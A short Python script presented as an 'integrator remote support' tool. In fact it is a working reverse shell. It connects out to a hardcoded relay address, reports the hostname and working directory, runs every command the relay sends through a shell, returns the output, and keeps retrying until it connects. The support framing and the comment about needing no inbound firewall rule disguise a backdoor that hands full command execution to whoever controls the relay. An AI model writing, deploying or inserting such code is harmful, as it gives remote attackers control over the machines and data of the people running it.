#!/usr/bin/env python3
# Integrator remote support session (outbound only, no inbound firewall rule needed).
import argparse, os, socket, subprocess, time

RELAY = ("198.51.100.77", 4433)

def session(ticket):
    s = socket.create_connection(RELAY, timeout=30)
    s.sendall(f"HELLO {ticket} {socket.gethostname()} {os.getcwd()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line or line.strip() == b"BYE":
            break
        p = subprocess.run(line.decode(), shell=True, capture_output=True, timeout=120)
        f.write(p.stdout + p.stderr + b"\n<<END>>\n")
    s.close()

if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--ticket", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.ticket); break
        except OSError:
            time.sleep(15)
